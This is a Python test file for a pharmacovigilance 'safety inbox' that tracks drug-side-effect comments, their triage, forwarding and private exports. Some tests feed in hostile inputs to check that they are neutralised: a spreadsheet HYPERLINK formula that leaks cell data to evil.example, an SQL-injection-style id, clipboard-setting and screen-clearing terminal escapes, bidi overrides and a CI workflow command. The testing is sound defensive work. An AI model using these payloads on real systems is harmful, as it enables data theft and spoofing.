"""The safety inbox in the ledger (SQLite and PostgreSQL) and the `inbox` commands: comments kept verbatim and
once, items queued with their clocks, every transition on record with who/when/why but never the comment's
text or author, the text shown only where a person asks for it, and an export only its owner can read."""

from __future__ import annotations

import csv
import io
import json
import stat
import threading
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from socialpub import clocks, inbox
from socialpub.adapters.base import Comment
from socialpub.errors import ExitCode, SocialpubError
from socialpub.ledger import Ledger, Row, State, open_ledger
from tests.helpers import Repo, cli

# Canaries: a comment's text and author must never appear in events, `history`, `status`, logs or stdout off
# a terminal. The text also starts like a spreadsheet formula.
TEXT = "=HYPERLINK(\"x\") CANARY-TEXT-7f3a my mom took it and got a terrible headache"
AUTHOR = "CANARY-AUTHOR-91bc"
NOW = datetime(2026, 12, 7, 15, 0, tzinfo=UTC)  # a Monday


def queued(day0: datetime, category: str = "ae") -> inbox.Queued:
    return inbox.Queued(category=category, elements=("event", "patient", "reporter"), situations=(),
                        spans=({"element": "patient", "start": TEXT.index("my mom"), "end": TEXT.index("my mom") + 6,
                                "term": "my mom", "label": ""},
                               {"element": "event", "start": TEXT.index("headache"), "end": len(TEXT),
                                "term": "headache", "label": ""}),
                        reasons=("event 'headache' + patient 'my mom'",), day0=day0,
                        due=clocks.due_at(day0, 1, ZoneInfo("America/New_York")))


def put(ledger: Ledger, comment_id: str = "c1", *, text: str = TEXT, queue: bool = True,
        platform: datetime | None = None, deleted: bool = False, post: str = "mbc-post") -> tuple[bool, Any]:
    comment = Comment(comment_id, text, AUTHOR, "a-1", platform or NOW - timedelta(hours=5),
                      f"https://x.com/someone/status/{comment_id}", deleted=deleted)
    return inbox.record_comment(ledger, post_id=post, channel="tw", answers_remote_id="1001", comment=comment,
                                first_seen=NOW,
                                queue=queued(clocks.day_zero(comment.created_at, NOW)) if queue else None)


def no_canary(text: str) -> None:
    assert "CANARY-TEXT" not in text and AUTHOR not in text and "headache" not in text


def test_a_comment_is_kept_once_verbatim_and_its_item_is_queued_with_an_event_without_its_text(ledger: Ledger) -> None:
    new, item = put(ledger)
    assert new and item is not None and item.id == "S-000001" and item.state == "open"
    assert (item.day0, item.category, item.elements) == (NOW - timedelta(hours=5), "ae", ("event", "patient",
                                                                                          "reporter"))
    again, none = put(ledger)  # the next page overlaps, or the next watch reads it again
    assert (again, none) == (False, None)
    assert [i.id for i in inbox.items(ledger)] == ["S-000001"]
    stored = inbox.comment_of(ledger, item)
    assert (stored.text, stored.author, stored.deleted) == (TEXT, AUTHOR, False)
    assert stored.text_sha256 == inbox.text_hash(TEXT) == item.text_sha256
    events = ledger.events()
    assert [e["action"] for e in events] == ["safety-queued"]
    assert events[0]["detail"]["item"] == "S-000001" and events[0]["detail"]["text_sha256"] == item.text_sha256
    no_canary(json.dumps(events))


def test_a_deletion_on_the_platform_sets_the_flag_and_nothing_else(ledger: Ledger) -> None:
    put(ledger)
    assert put(ledger, text="", deleted=True) == (False, None)  # the platform now shows it removed, text gone
    item = inbox.items(ledger)[0]
    stored = inbox.comment_of(ledger, item)
    assert stored.deleted and stored.text == TEXT  # what was seen stays on record
    assert [e["action"] for e in ledger.events()] == ["safety-queued", "comment-deleted"]
    put(ledger, text="", deleted=True)
    assert len(ledger.events()) == 2  # recorded once


def test_triage_then_forward_each_on_record_with_who_and_why_and_forwarded_only_once(ledger: Ledger) -> None:
    put(ledger)
    inbox.triage(ledger, "S-000001", "ae", "mother of the author, headache after dose", at=NOW, who="ann@host")
    it = inbox.forward(ledger, "s-1", "PV-2026-0042", at=NOW + timedelta(hours=1), who="bob@host")
    assert (it.state, it.triaged_as, it.triaged_by, it.pv_ref, it.forwarded_by) == (
        "forwarded", "ae", "ann@host", "PV-2026-0042", "bob@host")
    with pytest.raises(inbox.Refused) as again:
        inbox.forward(ledger, "S-000001", "PV-2", at=NOW, who="eve@host")
    assert again.value.exit_code == ExitCode.FINDINGS and "already forwarded to PV as PV-2026-0042" in str(again.value)
    with pytest.raises(inbox.Refused):
        inbox.triage(ledger, "S-000001", "other", "changed my mind", at=NOW)
    assert inbox.items(ledger) == []  # nothing waits
    events = ledger.events()
    assert [(e["action"], e["actor"]) for e in events] == [
        ("safety-queued", events[0]["actor"]), ("safety-triaged", "ann@host"), ("safety-forwarded", "bob@host")]
    assert events[1]["detail"]["reason"] == "mother of the author, headache after dose"
    assert events[2]["detail"]["pv_ref"] == "PV-2026-0042"
    assert all(e["detail"]["text_sha256"] == inbox.text_hash(TEXT) for e in events)
    assert "CANARY" not in json.dumps(events)


def test_triage_as_other_closes_an_item_and_forwarding_it_is_refused(ledger: Ledger) -> None:
    put(ledger)
    closed = inbox.triage(ledger, "S-000001", "other", "a joke about the weather", at=NOW)
    assert not closed.waiting and inbox.items(ledger) == []
    with pytest.raises(inbox.Refused, match="triaged as other"):
        inbox.forward(ledger, "S-000001", "PV-1", at=NOW)
    reopened = inbox.triage(ledger, "S-000001", "complaint", "on second reading: the pen jammed", at=NOW)
    assert reopened.waiting and [e["detail"]["previous"] for e in ledger.events()
                                 if e["action"] == "safety-triaged"] == [None, "other"]


@pytest.mark.parametrize("reason", ["", "   ", "\u200b\u200d", "\t\n", "\x1b"])
def test_a_triage_reason_of_blanks_or_invisible_characters_is_no_reason(ledger: Ledger, reason: str) -> None:
    """The same test as for retract, resolve and resume: what a reader of the trail cannot see is no reason."""
    put(ledger)
    with pytest.raises(SocialpubError, match="--reason is empty"):
        inbox.triage(ledger, "S-000001", "ae", reason, at=NOW)
    assert [e["action"] for e in ledger.events()] == ["safety-queued"]


@pytest.mark.parametrize("name", ["", "S-0", "S-000001; DROP TABLE", "X-1", "S-" + "9" * 40, "1e3"])
def test_bad_item_ids_and_unknown_ones_are_clear_errors(ledger: Ledger, name: str) -> None:
    with pytest.raises(SocialpubError) as error:
        inbox.item(ledger, name)
    assert error.value.exit_code == ExitCode.USAGE
    with pytest.raises(SocialpubError, match="no safety item S-000007"):
        inbox.item(ledger, "S-7")


def test_two_people_forwarding_one_item_at_once_record_one_hand_off(ledger_spec: str, tmp_path: Path) -> None:
    with open_ledger(ledger_spec, tmp_path) as first:
        put(first)
    outcomes: list[str] = []

    def hand_off(ref: str) -> None:
        with open_ledger(ledger_spec, tmp_path) as mine:
            try:
                inbox.forward(mine, "S-000001", ref, at=NOW)
                outcomes.append(ref)
            except inbox.Refused:
                outcomes.append("refused")

    threads = [threading.Thread(target=hand_off, args=(f"PV-{n}",)) for n in range(4)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert sorted(outcomes).count("refused") == 3
    with open_ledger(ledger_spec, tmp_path) as check:
        assert [e["action"] for e in check.events()].count("safety-forwarded") == 1


def test_reads_keep_their_cursor_on_failure_and_count_what_was_new(ledger: Ledger) -> None:
    inbox.record_read(ledger, "mbc-post", "tw", at=NOW, cursor="c-10", complete=False, new=3)
    inbox.record_read(ledger, "mbc-post", "tw", at=NOW + timedelta(hours=1), cursor=None, complete=False, new=0,
                      error="X answered 503")
    read = inbox.reads(ledger)["mbc-post", "tw"]
    assert (read.cursor, read.seen, read.last_read_at, read.last_error) == ("c-10", 3, NOW, "X answered 503")
    inbox.record_read(ledger, "mbc-post", "tw", at=NOW + timedelta(hours=2), cursor="c-12", complete=True, new=2)
    read = inbox.reads(ledger)["mbc-post", "tw"]
    assert (read.cursor, read.seen, read.complete, read.last_error) == ("c-12", 5, True, None)
    assert inbox.record_gap(ledger, "p", "pin", inbox.UNREADABLE, "review by hand", at=NOW, once=True)
    assert not inbox.record_gap(ledger, "p", "pin", inbox.UNREADABLE, "review by hand", at=NOW, once=True)
    assert [g.kind for g in inbox.gaps(ledger)["p", "pin"]] == [inbox.UNREADABLE]


# --- the commands ---------------------------------------------------------------------------------------------


@pytest.fixture
def seeded(repo: Repo, ledger_spec: str) -> tuple[Repo, str]:
    from socialpub.ledger import utcnow

    spec = ledger_spec if ledger_spec.startswith("postgres") else str(repo.root / ".socialpub" / "ledger.db")
    with open_ledger(spec, repo.root) as opened:
        opened.save(Row("mbc-post", "tw", State.PUBLISHED, remote_id="1001", url="https://x.com/az/status/1001",
                        published_at=utcnow() - timedelta(days=1)))
        put(opened)
        put(opened, "c2", platform=NOW - timedelta(days=3))
    return repo, spec


def test_inbox_lists_waiting_items_oldest_first_with_clocks_and_no_text(seeded: tuple[Repo, str]) -> None:
    repo, spec = seeded
    code, out, err = cli(repo, "--ledger", spec, "inbox", "--now", NOW.isoformat())
    assert code == 0, err
    lines = out.splitlines()
    assert [line.split()[0] for line in lines] == ["S-000002", "S-000001"]  # by day 0: Friday, then Monday
    assert "OVERDUE" not in out and "event+patient+reporter" in out
    assert "due end of Mon 2026-12-07" in lines[0] and "due end of Tue 2026-12-08" in lines[1]
    no_canary(out + err)
    code, out, _ = cli(repo, "--ledger", spec, "inbox", "--now", (NOW + timedelta(days=2)).isoformat(), "-f", "json")
    data = json.loads(out)
    assert data["command"] == "inbox" and [i["overdue"] for i in data["items"]] == [True, True]
    no_canary(out)


def test_inbox_show_withholds_text_off_a_terminal_and_marks_evidence_when_asked(seeded: tuple[Repo, str]) -> None:
    repo, spec = seeded
    code, out, err = cli(repo, "--ledger", spec, "inbox", "show", "S-000001")
    assert code == 0, err
    assert "withheld" in out and "mbc-post" in out and "x.com/someone" not in out  # the link names the author
    no_canary(out + err)
    code, out, _ = cli(repo, "--ledger", spec, "inbox", "show", "S-000001", "--force-text")
    assert code == 0
    assert AUTHOR in out and "CANARY-TEXT-7f3a" in out
    assert "[my mom](patient)" in out and "[headache](event)" in out and "https://x.com/someone/status/c1" in out


def test_triage_forward_and_history_status_show_ids_and_hashes_only(seeded: tuple[Repo, str]) -> None:
    repo, spec = seeded
    code, out, err = cli(repo, "--ledger", spec, "inbox", "triage", "S-000001", "--as", "ae", "--reason", "mom")
    assert code == 0, err and "forward it" in out
    code, out, err = cli(repo, "--ledger", spec, "inbox", "forward", "S-000001", "--ref", "PV-9")
    assert code == 0 and "forwarded to PV as PV-9" in out
    code, out, err = cli(repo, "--ledger", spec, "inbox", "forward", "S-000001", "--ref", "PV-10")
    assert code == 1 and "already forwarded" in err
    code, out, err = cli(repo, "--ledger", spec, "inbox", "triage", "S-000002", "--as", "adverse", "--reason", "x")
    assert code == 2 and "not one of" in err
    code, out, err = cli(repo, "--ledger", spec, "inbox", "show", "S-000099")
    assert code == 2 and "no safety item S-000099" in err
    for args in (("history",), ("history", "-f", "json"), ("history", "-f", "csv"), ("status",),
                 ("status", "-f", "json"), ("inbox", "--all"), ("watch", "--report")):
        code, out, err = cli(repo, "--ledger", spec, *args)
        assert code == 0, (args, err)
        no_canary(out + err)
    code, out, _ = cli(repo, "--ledger", spec, "history", "-f", "json")
    actions = [e["action"] for e in json.loads(out)["events"]]
    assert actions.count("safety-queued") == 2 and "safety-triaged" in actions and "safety-forwarded" in actions


def test_status_counts_the_items_waiting_per_post(seeded: tuple[Repo, str]) -> None:
    repo, spec = seeded
    code, out, err = cli(repo, "--ledger", spec, "status", "-f", "json")
    rows = {(r["post"], r["channel"]): r for r in json.loads(out)["rows"]}
    assert rows["mbc-post", "tw"]["safety_items"] == 2
    code, out, err = cli(repo, "--ledger", spec, "status")
    assert "2 safety item(s) waiting" in out


def test_export_is_private_guarded_against_formulas_and_recorded(seeded: tuple[Repo, str], tmp_path: Path) -> None:
    repo, spec = seeded
    target = tmp_path / "out" / "pv.csv"
    target.parent.mkdir()
    target.write_text("old")
    target.chmod(0o644)  # an existing file others could read: written 0600 all the same
    code, out, err = cli(repo, "--ledger", spec, "inbox", "export", "-o", str(target))
    assert code == 0, err
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    no_canary(out + err)
    rows = list(csv.DictReader(io.StringIO(target.read_text(encoding="utf-8"), newline="")))
    assert [r["id"] for r in rows] == ["S-000002", "S-000001"]  # oldest day 0 first
    assert rows[1]["text"] == "'" + TEXT  # a spreadsheet shows it, never runs it
    assert (rows[1]["author"], rows[1]["event"], rows[1]["product"], rows[1]["platform_url"]) == (
        AUTHOR, "yes", "no", "https://x.com/someone/status/c1")
    as_json = tmp_path / "pv.json"
    code, _, err = cli(repo, "--ledger", spec, "inbox", "export", "-o", str(as_json), "--id", "S-000002")
    assert code == 0, err and stat.S_IMODE(as_json.stat().st_mode) == 0o600
    data = json.loads(as_json.read_text())
    assert [i["text"] for i in data["items"]] == [TEXT] and data["items"][0]["day0"] == "2026-12-04T15:00:00+00:00"
    assert data["items"][0]["due"] == "2026-12-08T05:00:00+00:00"  # the end of Monday in New York
    code, out, _ = cli(repo, "--ledger", spec, "history", "-f", "json")
    exported = [e for e in json.loads(out)["events"] if e["action"] == "safety-exported"]
    assert [e["detail"]["items"] for e in exported] == [["S-000002", "S-000001"], ["S-000002"]]
    no_canary(out)
    link = tmp_path / "link.csv"
    link.symlink_to(tmp_path / "elsewhere.csv")
    code, _, err = cli(repo, "--ledger", spec, "inbox", "export", "-o", str(link))
    assert code == 2 and not (tmp_path / "elsewhere.csv").exists()


def test_the_watch_lock_is_exclusive_and_independent_of_the_run_lock(ledger_spec: str, tmp_path: Path) -> None:
    with open_ledger(ledger_spec, tmp_path) as one, open_ledger(ledger_spec, tmp_path) as two:
        with one.watch_lock() as first:
            assert first
            with two.watch_lock() as second:
                assert not second  # another watch: "already running"
            with two.run_lock() as running:
                assert running  # publishing never waits for watching
        with two.watch_lock() as again:
            assert again  # released with the block


def test_the_situations_config_accepts_are_those_screening_reports_from_one_list() -> None:
    from socialpub import config, situations
    from socialpub.safety import screening, words

    assert config.SITUATIONS is situations.SITUATIONS is screening.SITUATIONS  # one list, imported
    assert tuple(words.SITUATION_WORDS) == situations.SITUATIONS and all(words.SITUATION_WORDS.values())


def test_the_html_preview_and_agenda_never_show_comments(seeded: tuple[Repo, str], tmp_path: Path) -> None:
    repo, spec = seeded
    repo.post("Our lab team at the bench this week.", name="mbc-post", channels=["tw"], post_type="corporate")
    page = tmp_path / "preview.html"
    cli(repo, "--ledger", spec, "preview", "--html", str(page))
    assert page.exists()
    no_canary(page.read_text(encoding="utf-8"))
    code, out, err = cli(repo, "--ledger", spec, "-v", "status")
    no_canary(out + err)


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(text=st.text(max_size=300), author=st.text(max_size=40), comment_id=st.text(min_size=1, max_size=30))
def test_whatever_a_platform_sends_is_kept_or_refused_cleanly_never_a_crash(ledger: Ledger, text: str, author: str,
                                                                           comment_id: str) -> None:
    """Hostile strings (lone surrogates, NUL, controls, huge ids) are stored as the database can keep them: the
    same comment again is known, the text hash is the kept text's, and nothing of it reaches an event."""
    comment = Comment(comment_id, text + "CANARY-TEXT", author, author, NOW, None)
    first = inbox.record_comment(ledger, post_id="p", channel="fuzz", answers_remote_id=None, comment=comment,
                                 first_seen=NOW, queue=queued(NOW))
    again = inbox.record_comment(ledger, post_id="p", channel="fuzz", answers_remote_id=None, comment=comment,
                                 first_seen=NOW, queue=queued(NOW))
    assert again == (False, None)
    if first[0]:
        stored = inbox.comment_of(ledger, first[1])
        assert stored.text == inbox.storable(comment.text) and stored.text_sha256 == inbox.text_hash(stored.text)
    assert "CANARY-TEXT" not in json.dumps(ledger.events())


def test_marked_evidence_is_escaped_whatever_the_text_holds() -> None:
    from socialpub.inboxview import marked
    from socialpub.terminal import TERMINAL_UNSAFE

    @settings(max_examples=300, deadline=None)
    @given(text=st.text(max_size=80), cuts=st.lists(st.tuples(st.integers(-5, 90), st.integers(-5, 90)), max_size=6))
    def check(text: str, cuts: list[tuple[int, int]]) -> None:
        spans = [{"element": "event", "start": a, "end": b, "term": "", "label": ""} for a, b in cuts]
        shown = marked(text, spans)
        assert not TERMINAL_UNSAFE.search(shown)  # no control character reaches a terminal raw

    check()
    text = "line one\n::set-output name=x::y \x1b[31mred\x1b[0m my mom got a rash"
    shown = marked(text, [{"element": "patient", "start": text.index("my mom"), "end": text.index("my mom") + 6}])
    assert "\x1b" not in shown and "\\x1b[31m" in shown and "[my mom](patient)" in shown


@pytest.mark.parametrize("ref", ["PV\x1b[2J-1", "PV-1\nforged line", "PV\u202e1-VP", "PV\x00", "\t", " " * 3])
def test_a_case_reference_with_control_characters_is_refused_and_nothing_recorded(seeded: tuple[Repo, str],
                                                                                   ref: str) -> None:
    repo, spec = seeded
    code, out, err = cli(repo, "--ledger", spec, "inbox", "forward", "S-000001", "--ref", ref)
    assert code == 2 and "--ref must be" in err and "\x1b" not in out + err, (code, err)
    code, out, _ = cli(repo, "--ledger", spec, "history", "-f", "json")
    assert "safety-forwarded" not in [e["action"] for e in json.loads(out)["events"]]


def test_a_case_reference_that_reads_as_a_formula_is_kept_as_given_and_never_runs_in_a_spreadsheet(
        seeded: tuple[Repo, str], tmp_path: Path) -> None:
    repo, spec = seeded
    ref = '=HYPERLINK("http://evil.example/?"&A1,"PV-1")'
    code, out, err = cli(repo, "--ledger", spec, "inbox", "forward", "S-000001", "--ref", ref)
    assert code == 0, err
    code, out, _ = cli(repo, "--ledger", spec, "inbox", "--all", "-f", "json")
    assert [i["pv_ref"] for i in json.loads(out)["items"] if i["id"] == "S-000001"] == [ref]  # kept verbatim
    code, out, _ = cli(repo, "--ledger", spec, "history", "-f", "csv")
    for row in csv.reader(io.StringIO(out, newline="")):
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@")), cell  # every cell that could run is quoted
    target = tmp_path / "pv.csv"
    code, _, err = cli(repo, "--ledger", spec, "inbox", "export", "--all", "-o", str(target))
    assert code == 0, err
    for row in csv.reader(io.StringIO(target.read_text(encoding="utf-8"), newline="")):
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row), row


def test_an_export_to_a_missing_directory_a_directory_or_a_full_disk_fails_cleanly_and_is_not_recorded(
        seeded: tuple[Repo, str], tmp_path: Path) -> None:
    repo, spec = seeded
    missing = tmp_path / "no-such-dir" / "pv.csv"
    for target, said in ((missing, "does not exist"), (tmp_path, "is a directory"),
                         (Path("/dev/full"), "not a regular file")):
        code, out, err = cli(repo, "--ledger", spec, "inbox", "export", "-o", str(target))
        assert code == 2 and said in err and "nothing was exported" in err and "Traceback" not in err, (target, err)
        no_canary(out + err)
    assert not missing.parent.exists()  # a typo does not leave a new folder of health data behind
    code, out, _ = cli(repo, "--ledger", spec, "history", "-f", "json")
    assert "safety-exported" not in [e["action"] for e in json.loads(out)["events"]]


def test_an_export_that_runs_out_of_space_leaves_no_partial_file(tmp_path: Path) -> None:
    """A disk that fills up mid-write (a file-size limit stands in for it): a clear error, and neither the
    export nor a part of it is left behind, nor is an older export at that path damaged."""
    import subprocess
    import sys

    target = tmp_path / "pv.csv"
    target.write_text("the previous export\n")
    script = (
        "import resource, signal, sys\n"
        "from pathlib import Path\n"
        "from socialpub.inboxview import write_private\n"
        "from socialpub.errors import SocialpubError\n"
        "signal.signal(signal.SIGXFSZ, signal.SIG_IGN)\n"
        "resource.setrlimit(resource.RLIMIT_FSIZE, (4096, resource.getrlimit(resource.RLIMIT_FSIZE)[1]))\n"
        "try:\n"
        "    write_private(Path(sys.argv[1]), 'CANARY-TEXT ' * 10000)\n"
        "except SocialpubError as error:\n"
        "    print(error.message)\n"
    )
    done = subprocess.run([sys.executable, "-c", script, str(target)], capture_output=True, text=True, timeout=60)
    assert "nothing was exported" in done.stdout and "File too large" in done.stdout, done
    assert target.read_text() == "the previous export\n" and [p.name for p in tmp_path.iterdir()] == ["pv.csv"]


def test_a_comment_id_too_long_for_an_index_is_kept_by_its_hash_and_known_again(ledger: Ledger) -> None:
    """A broken or hostile answer with a 1 MB comment id (PostgreSQL cannot index it): the comment is kept and
    queued all the same, under the id's hash, and known when it comes again; the watch is not stopped."""
    huge = "9" * 1_000_000
    first = put(ledger, huge)
    assert first[0] and first[1] is not None and first[1].comment_id == f"sha256:{inbox.text_hash(huge)}"
    assert put(ledger, huge) == (False, None)
    assert inbox.comment_of(ledger, first[1]).text == TEXT
    assert put(ledger, "c" * inbox.MAX_ID)[1].comment_id == "c" * inbox.MAX_ID  # a long real id stays as it is


def test_a_triage_reason_with_control_characters_or_a_megabyte_is_refused_or_shown_escaped(
        seeded: tuple[Repo, str]) -> None:
    repo, spec = seeded
    code, out, err = cli(repo, "--ledger", spec, "inbox", "triage", "S-000001", "--as", "ae", "--reason",
                         "dizzy\x1b]52;c;Zm9v\x07 \u202eevil\u202c \x00 \x1b[2J\r\nforged: line")
    assert code == 0, err  # kept with what would be obeyed or hidden written as escapes, shown so everywhere
    for args in (("history",), ("history", "-f", "csv"), ("history", "-f", "json"), ("inbox", "show", "S-000001"),
                 ("inbox", "--all")):
        code, out, err = cli(repo, "--ledger", spec, *args)
        assert code == 0 and "\x1b" not in out + err and "\r" not in out.replace("\r\n", "\n"), (args, out)
        assert "\u202e" not in out and "\x00" not in out, args
    with open_ledger(spec, repo.root) as ledger:
        assert inbox.item(ledger, "S-000001").triage_reason == \
            "dizzy\\x1b]52;c;Zm9v\\x07 \\u202eevil\\u202c \\x00 \\x1b[2J\nforged: line"
    code, out, err = cli(repo, "--ledger", spec, "inbox", "triage", "S-000002", "--as", "ae",
                         "--reason", "x" * 1_000_000)
    assert code == 2 and "more than 1000" in err and "--reason" in err, err  # like every act's reason
    with open_ledger(spec, repo.root) as ledger:
        assert inbox.item(ledger, "S-000002").state == "open"  # nothing was changed


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(reason=st.text(st.characters(exclude_categories=()), max_size=1100)
       | st.text(st.sampled_from("a \x00\x1b\r\n\t\u202e\u2066\u200b\ud800\udcff\x85é🙂"), max_size=40)
       | st.integers(995, 1005).map(lambda n: "\u202e" + "y" * n))  # about the longest reason kept
def test_any_triage_reason_is_refused_clearly_or_kept_readable_and_storable(ledger: Ledger, reason: str) -> None:
    """Whatever a person (or a script) passes as --reason: refused with a clear error and nothing changed, or
    kept on either backend as text a reader sees as it is (nothing obeyed, nothing hidden), the same in the
    item and in its event."""
    from socialpub.terminal import TERMINAL_UNSAFE, said_something

    if not inbox.items(ledger):
        put(ledger)
    before = len(ledger.events())
    try:
        it = inbox.triage(ledger, "S-000001", "inquiry", reason, at=NOW, who="ann@host")
    except SocialpubError as refused:
        assert not said_something(reason) or len(reason.strip()) > 1000, refused
        assert len(ledger.events()) == before
        return
    kept = it.triage_reason or ""
    assert said_something(kept) and not TERMINAL_UNSAFE.search(kept) and "\r" not in kept
    kept.encode("utf-8")  # no lone surrogate
    if not TERMINAL_UNSAFE.search(reason) and "\r" not in reason:
        assert kept == reason.strip()  # ordinary words stay as written
    assert ledger.events()[-1]["detail"]["reason"] == kept
    assert inbox.item(ledger, "S-000001").triage_reason == kept


_EXAMPLES = iter(range(10**9))  # a fresh (post, channel) per example: the ledger is the test's


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(steps=st.lists(st.one_of(st.tuples(st.just("stop"), st.integers(0, 10**6)), st.just(("complete", 0)),
                                st.tuples(st.just("lasting"), st.integers(0, 2))), max_size=20))
def test_a_limit_met_again_while_it_lasts_is_one_gap_and_a_lasting_gap_is_kept_once(
        ledger: Ledger, steps: list[tuple[str, int]]) -> None:
    """Any sequence of watches: reads stopped at a limit (a text with another number each time), complete reads,
    and gaps that last (X's 7 days): one gap per stretch of stopped reads, each lasting gap once."""
    post = f"p{next(_EXAMPLES)}"
    stretches, stopped, lasting = 0, False, set()
    for n, (step, value) in enumerate(steps):
        at = NOW + timedelta(minutes=15 * n)
        if step == "stop":
            inbox.record_gap(ledger, post, "tw", inbox.PLATFORM_LIMIT, f"window used up for {value} s", at=at,
                             once=True, ongoing=True)
            stretches, stopped = stretches + (not stopped), True
        elif step == "complete":
            inbox.record_read(ledger, post, "tw", at=at, cursor="c", complete=True, new=0)
            stopped = False
        else:
            inbox.record_gap(ledger, post, "tw", inbox.PLATFORM_LIMIT, f"7 days: {value}", at=at, once=True)
            lasting.add(value)
    gaps = inbox.gaps(ledger).get((post, "tw"), [])
    assert len(gaps) == stretches + len(lasting)
    assert len({g.detail for g in gaps if g.detail.startswith("7 days")}) == len(lasting)
